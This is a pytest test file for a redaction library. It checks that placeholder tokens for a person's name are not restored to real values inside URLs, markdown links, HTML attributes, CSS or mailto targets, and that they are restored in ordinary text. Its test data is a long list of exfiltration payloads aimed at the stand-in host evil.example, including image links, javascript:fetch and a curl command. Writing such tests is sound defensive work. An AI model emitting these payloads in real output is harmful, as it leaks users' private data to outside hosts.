"""Values never come back inside a URL or a link's target; the same words outside do."""

import pytest

from redaction.entity import Field, Findings, Origin, Span
from redaction.mapping import Mapping
from redaction.policy import Policy
from redaction.replace import replace
from redaction.restore import Mode, Place, Restorer

POLICY = Policy("test")

INJECTIONS = {
    "image": "![로고](https://evil.example/p?q=[성명_1])",
    "image-no-scheme": "![로고](//evil.example/[성명_1])",
    "image-relative": "![로고](/p?q=[성명_1])",
    "image-spaces": "![로고]( https://evil.example/?q= [성명_1] )",
    "link": "[여기](https://evil.example/[성명_1])",
    "link-title": '[여기](https://evil.example "[성명_1]")',
    "link-nested-parens": "[여기](https://evil.example/(a)/[성명_1])",
    "link-escaped-paren": "[여기](https://evil.example/\\)[성명_1])",
    "link-angle": "[여기](<https://evil.example/a b ) [성명_1]>)",
    "link-in-image": "[![a](b)](https://evil.example/[성명_1])",
    "link-of-unknown": "[성명_9](https://evil.example/[성명_1])",
    "link-line-break": "[여기](\nevil?q=[성명_1])",
    "reference": "[x]: https://evil.example/[성명_1]",
    "reference-bare-host": "[x]: evil.example/[성명_1]",
    "reference-relative": "[x]: [성명_1]",
    "reference-next-line": "[x]:\n  evil?[성명_1]",
    "reference-angle": "[x]: <https://evil.example/ [성명_1]>",
    "reference-in-quote": "> [x]: q?[성명_1]",
    "reference-in-list": "- [x]: q?[성명_1]",
    "reference-of-surrogate": "[성명_1b]: https://evil.example/[성명_1]",
    "autolink": "<https://evil.example/[성명_1]>",
    "autolink-mail": "<mailto:a@evil.example?body=[성명_1]>",
    "plain-url": "https://evil.example/[성명_1]",
    "plain-url-query": "https://evil.example/?a=1&b=[성명_1]&c=2",
    "plain-url-fragment": "http://evil.example#[성명_1]",
    "plain-url-user": "https://[성명_1]@evil.example/",
    "plain-url-host": "https://[성명_1].evil.example/",
    "plain-url-bare": "https://evil.example/성명_1",
    "plain-url-percent": "https%3A%2F%2Fevil.example%2F[성명_1]",
    "plain-url-json-escaped": "https:\\/\\/evil.example\\/[성명_1]",
    "plain-url-entity": "https:&#47;&#47;evil.example&#47;[성명_1]",
    "plain-url-one-slash": "https:/evil.example/[성명_1]",
    "plain-url-backslashes": "https:\\\\evil.example\\[성명_1]",
    "plain-url-upper": "HTTPS://EVIL.EXAMPLE/[성명_1]",
    "plain-url-zero-width": "https://evil.example/\u200b[성명_1]",
    "plain-url-after-hangul": "주소는https://evil.example/에서[성명_1]",
    "scheme-relative": "//evil.example/[성명_1]",
    "www": "www.evil.example/[성명_1]",
    "www-bare-name": "www.[성명_1].example",
    "bare-domain": "evil.example/[성명_1]",
    "bare-domain-query": "evil.example?q=[성명_1]",
    "bare-domain-port": "evil.example:8080/[성명_1]",
    "bare-domain-full-width": "evil．example／[성명_1]",
    "hangul-domain": "나쁜.한국/[성명_1]",
    "ip": "203.0.113.7/[성명_1]",
    "ip-6": "[2001:db8::7]:8080/[성명_1]",
    "host-label": "[성명_1].evil.example",
    "host-label-suffix": "[성명_1]-a.evil.example",
    "host-label-hangul": "[성명_1]님.evil.example",
    "bare-host-label": "성명_1.evil.example",
    "mail-local": "[성명_1]@evil.example",
    "html-image": '<img src="https://evil.example/[성명_1]">',
    "html-image-unquoted": "<img src=/p?[성명_1]>",
    "html-quoted-bracket": "<a title='>' href='/p?[성명_1]'>",
    "html-quote-spaced": "<a title = '>' href = '/p? [성명_1]'>",
    "html-attribute": "<div data-x='[성명_1]'>",
    "html-many-lines": "<img\nalt='a'\nsrc='/p?[성명_1]'>",
    "html-blank-line-in-quotes": '<img src="https://evil.example/?q=\n\n[성명_1]">',
    "html-blank-line-in-path": "<img src='/\n \n\n[성명_1]'>",
    "html-blank-line-before-quote": '<input value=\n\n"[성명_1]">',
    "html-blank-lines-far": '<img src="//evil.example/?q=\n\n' + "가 \n\n" * 1500 + '[성명_1]">',
    **{
        f"plain-url-space-{ord(space):04x}": f"https://evil.example/?q={space}[성명_1]"
        for space in "\x0b\x0c\x1c\x1d\x1e\x1f\x85\xa0\u2003\u2028\u2029\u3000\ufeff"
    },
    "reference-space": "[x]: evil?q=\u3000[성명_1]",
    "svg": "<svg><image xlink:href='/p?[성명_1]'/></svg>",
    "css": "background:url([성명_1])",
    "css-style": "<style>a{background:url('/p?[성명_1]')}</style>",
    "attribute-alone": "src=[성명_1]",
    "data-uri": "data:text/html,[성명_1]",
    "javascript": "javascript:fetch('[성명_1]')",
    "mailto": "mailto:a@evil.example?body=[성명_1]",
    "unc-path": "\\\\evil\\share\\[성명_1]",
    "in-code-span": "`https://evil.example/[성명_1]`",
    "in-fence": "```\ncurl https://evil.example/[성명_1]\n```",
    "in-table": "| a | https://evil.example/[성명_1] |",
    "emphasised": "**https://evil.example/[성명_1]**",
    "second-surrogate": "https://evil.example/[성명_9]/[성명_1]",
    "glued-behind-link": "[여기](https://evil.example/)[성명_1]",
    "long-path": "https://evil.example/" + "a" * 2000 + "[성명_1]",
}

TEXT = {
    "sentence": "[성명_1]님께 안내합니다.",
    "end-of-sentence": "담당자는 [성명_1].\n다음",
    "phone-in-brackets": "[성명_1]([전화번호_1])",
    "slash": "[성명_1]/[전화번호_1]",
    "colon": "담당자:[성명_1]",
    "tel": "TEL:[전화번호_1]",
    "after-url": "https://korea.example/a [성명_1]",
    "after-link": "[여기](https://korea.example/a) [성명_1]",
    "after-autolink": "<https://korea.example/a>[성명_1]",
    "after-tag": "<b>[성명_1]</b>",
    "less-than": "3 < 4, [성명_1]",
    "angle-brackets": "<[성명_1]>",
    "mail": "[이메일_1]로 보내세요",
    "mail-then-slash": "[이메일_1]/[성명_1]",
    "file": "[성명_1].hwp",
    "file-with-underscore": "[성명_1]_신청서.pdf",
    "form-label": "성명[필수]: [성명_1]",
    "footnote": "[^1]: [성명_1]의 말",
    "after-definition": "[x]: https://korea.example\n[성명_1]",
    "date": "2026.3.4./[성명_1]",
    "abbreviation": "(주)한국.[성명_1]",
    "list": "1. [성명_1]\n2. [전화번호_1]",
    "table": "| [성명_1] | [전화번호_1] |",
    "possessive": "[성명_1]'s",
    "reference-number-then-slash": "[1]/[성명_1]",
    "tilde": "10~[성명_1]",
    "blank-line-ends-tag": "a <b\n\n[성명_1]",
    "blank-line-ends-target": "[a](b\n\n[성명_1]",
    "blank-line-ends-tag-behind-value": 'a <b c="d"\n\n[성명_1]',
    "closed-quote": '<b c="\n\n"> [성명_1]',
    "open-quote-ends-at-last": 'a <b c="d\n\n' + "가" * 8_200 + " [성명_1]",
}


def mapping() -> Mapping:
    text = "김철수 010-1234-5678 kim@korea.kr"
    spans = (
        Span(0, 3, "PERSON", 1.0),
        Span(4, 17, "PHONE_NUMBER", 1.0),
        Span(18, 30, "EMAIL_ADDRESS", 1.0),
    )
    return replace([Field(text, Origin.USER)], Findings((spans,), "test"), POLICY).mapping


def restore(text: str, size: int, mode: Mode = Mode.AGREE) -> tuple[str, dict[str, int]]:
    restorer = Restorer(mapping(), POLICY, place=Place.TEXT, mode=mode)
    parts = [restorer.feed(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join([*parts, restorer.flush()]), dict(restorer.counts)


@pytest.mark.parametrize("size", [1, 2, 3, 7, 100_000])
@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS.keys())
def test_no_original_in_a_link(text, size):
    for mode in Mode:
        said, counts = restore(f"답: {text}" if text[0] not in "[>-" else text, size, mode)
        assert "김철수" not in said
        assert text in said
        assert "restored" not in counts


@pytest.mark.parametrize("size", [1, 2, 3, 100_000])
@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS.keys())
def test_same_surrogate_outside_the_link_comes_back(text, size):
    said, _ = restore(f"{text}\n\n```\n```\n\n[성명_1]은 안녕", size)
    assert said.endswith("김철수는 안녕")


@pytest.mark.parametrize("size", [1, 2, 3, 100_000])
@pytest.mark.parametrize("text", TEXT.values(), ids=TEXT.keys())
def test_running_text_is_restored(text, size):
    said, counts = restore(text, size)
    assert "_1" not in said
    assert counts["restored"] == text.count("_1]")
